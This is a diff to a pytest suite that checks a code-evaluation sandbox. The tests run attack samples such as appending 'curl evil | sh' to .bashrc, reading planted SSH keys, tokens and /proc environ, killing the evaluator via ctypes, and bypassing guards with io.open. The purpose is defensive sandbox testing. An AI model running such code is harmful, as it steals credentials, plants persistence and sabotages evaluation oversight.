@@ -9,6 +9,11 @@ tree changed (hashed before and after: a planted home, a deny-listed folder,
 a folder in /tmp, part of the project and of site-packages), no process of the
 sample is left, and the planted secret is in no output or result file.
 
+The attacks go around the evaluators' own guards (``builtins.open`` and
+``os.kill`` replaced, ``os.fork`` disabled) as generated code can: ``io.open``,
+libc through ``ctypes``. Without the namespaces (``sandbox.isolation=none``)
+the write and read attacks succeed.
+
 Safety on a shared machine (these run as root): every test first checks that
 the sandbox is in force (``check_isolation``) and fails otherwise; the fork
 and memory bombs are bounded by the sample itself as well as by the sandbox;
@@ -101,7 +106,7 @@ def _evaluate(unit_name: str, attack: str, planted: dict, benchmarks_dir, eval_c
     samples.write_text("".join(json.dumps(r) + "\n" for r in rows))
     before = {str(t): _tree_hash(t) for t in planted["watched"]}
     out = planted["tmp"] / "out"
-    settings = {"workers": 1, "memory_mb": 2048, "min_time_limit": 2.0, "sample_timeout_s": 60.0,
+    settings = {"workers": 1, "min_time_limit": 2.0, "sample_timeout_s": 60.0,
                 "deny": ["~/.ssh", str(planted["vault"])], **sandbox}
     rc = cli.main(["--samples", str(samples), "--benchmarks", unit_name, "--out", str(out),
                    "--benchmarks-dir", str(benchmarks_dir), f"cache_dir={eval_cache}"]
@@ -133,11 +138,10 @@ HUMANEVAL = pytest.mark.parametrize("unit_name", ["humaneval+"])
 @BOTH
 def test_write_to_home(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
     attack = f"""
-        import os
-        with open({str(planted["home"] / ".bashrc")!r}, "a") as f:
+        import io, os
+        with io.open({str(planted["home"] / ".bashrc")!r}, "a") as f:
             f.write("curl evil | sh\\n")
-        open(os.path.expanduser("~/.profile"), "w").write("x")
-        open({str(planted["home"] / "notes.txt")!r}, "w").write("gone")
+        io.open({str(planted["home"] / "notes.txt")!r}, "w").write("gone")
     """
     assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))
 
@@ -145,8 +149,9 @@ def test_write_to_home(unit_name, isolated, planted, benchmarks_dir, eval_cache,
 @HUMANEVAL
 def test_write_to_project_tree(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
     attack = f"""
-        open({str(PROJECT / "megatron_snow" / "evaluate" / "escaped.py")!r}, "w").write("x = 1")
-        open({str(PROJECT / "megatron_snow" / "evaluate" / "__init__.py")!r}, "a").write("# changed")
+        import io
+        io.open({str(PROJECT / "megatron_snow" / "evaluate" / "escaped.py")!r}, "w").write("x = 1")
+        io.open({str(PROJECT / "megatron_snow" / "evaluate" / "__init__.py")!r}, "a").write("# changed")
     """
     assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))
 
@@ -154,18 +159,19 @@ def test_write_to_project_tree(unit_name, isolated, planted, benchmarks_dir, eva
 @HUMANEVAL
 def test_write_to_site_packages(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
     attack = """
-        import os, evalplus
-        open(os.path.join(os.path.dirname(evalplus.__file__), "escaped.py"), "w").write("x = 1")
+        import io, os, evalplus
+        io.open(os.path.join(os.path.dirname(evalplus.__file__), "escaped.py"), "w").write("x = 1")
     """
     assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))
 
 
-@BOTH
+@HUMANEVAL
 def test_write_to_tmp_outside_its_directory(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
     stray = Path("/tmp") / f"snow_escaped_{uuid.uuid4().hex}"
     attack = f"""
-        open({str(planted["outside"] / "planted.txt")!r}, "w").write("overwritten")
-        open({str(stray)!r}, "w").write("x")
+        import io
+        io.open({str(planted["outside"] / "planted.txt")!r}, "w").write("overwritten")
+        io.open({str(stray)!r}, "w").write("x")
     """
     status = _evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd)
     assert _fails(status) and not stray.exists()
@@ -176,10 +182,11 @@ def test_write_to_tmp_outside_its_directory(unit_name, isolated, planted, benchm
 @BOTH
 def test_read_planted_secret(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
     attack = f"""
+        import io
         found = []
         for path in ({str(planted["home"] / ".ssh" / "id_ed25519")!r}, {str(planted["vault"] / "token")!r}):
             try:
-                found.append(open(path).read())
+                found.append(io.open(path).read())
             except OSError:
                 pass
         print(found)
@@ -193,11 +200,11 @@ def test_read_planted_secret(unit_name, isolated, planted, benchmarks_dir, eval_
 @BOTH
 def test_read_environ_of_pid1_and_of_the_evaluator(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
     attack = """
-        import os
+        import io, os
         texts = [repr(dict(os.environ))]
         for pid in ["1", str(os.getppid())] + os.listdir("/proc"):
             try:
-                texts.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
+                texts.append(io.open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
             except (OSError, ValueError):
                 pass
         leaked = [t for t in texts if "SNOW_TEST_API_TOKEN" in t]
@@ -214,12 +221,13 @@ def test_read_environ_of_pid1_and_of_the_evaluator(unit_name, isolated, planted,
 def test_kill_parent(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
     """Its parent is the evaluator's worker: killing it would break the run (and every other sample)."""
     attack = """
-        import os, signal
-        os.kill(os.getppid(), signal.SIGKILL)
+        import ctypes, os
+        kill = ctypes.CDLL(None).kill  # the evaluators' guards replace os.kill; libc's is still there
+        kill(os.getppid(), 9)
         if os.getpid() == 1:  # PID 1 of its own namespace: every process it can see is its own
             for pid in os.listdir("/proc"):
                 if pid.isdigit() and int(pid) != 1:
-                    os.kill(int(pid), signal.SIGKILL)
+                    kill(int(pid), 9)
         raise RuntimeError("still here")
     """
     assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))
@@ -228,11 +236,12 @@ def test_kill_parent(unit_name, isolated, planted, benchmarks_dir, eval_cache, c
 @HUMANEVAL
 def test_kill_pid1_and_everyone(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
     attack = """
-        import os, signal
+        import ctypes, os
         if os.getpid() != 1:
             raise SystemExit("not PID 1 of a namespace of its own: not sending signals (test safety)")
-        os.kill(1, signal.SIGKILL)
-        os.kill(-1, signal.SIGKILL)
+        kill = ctypes.CDLL(None).kill  # the evaluators' guards replace os.kill; libc's is still there
+        kill(1, 9)
+        kill(-1, 9)
         raise RuntimeError("still here")
     """
     assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))
@@ -272,11 +281,11 @@ def test_memory_bomb(unit_name, isolated, planted, benchmarks_dir, eval_cache, c
 def test_disk_bomb_in_its_own_directory(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
     """Its own directory is writable but bounded (a tmpfs of sandbox.tmp_size_mb)."""
     attack = """
+        import io
         block = b"x" * 2**20
         for i in range(512):  # at most 512 MB: the test's own bound
-            with open(f"fill{i}", "wb") as f:
-                for _ in range(1):
-                    f.write(block)
+            with io.open(f"fill{i}", "wb") as f:
+                f.write(block)
     """
     assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd, tmp_size_mb=64))
 
@@ -297,7 +306,7 @@ def test_sleeping_child_does_not_outlive_the_run(unit_name, isolated, planted, b
     _evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd)  # checks no process is left
 
 
-@BOTH
+@HUMANEVAL
 def test_network_connection(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
     listener = socket.socket()
     listener.bind(("127.0.0.1", 0))
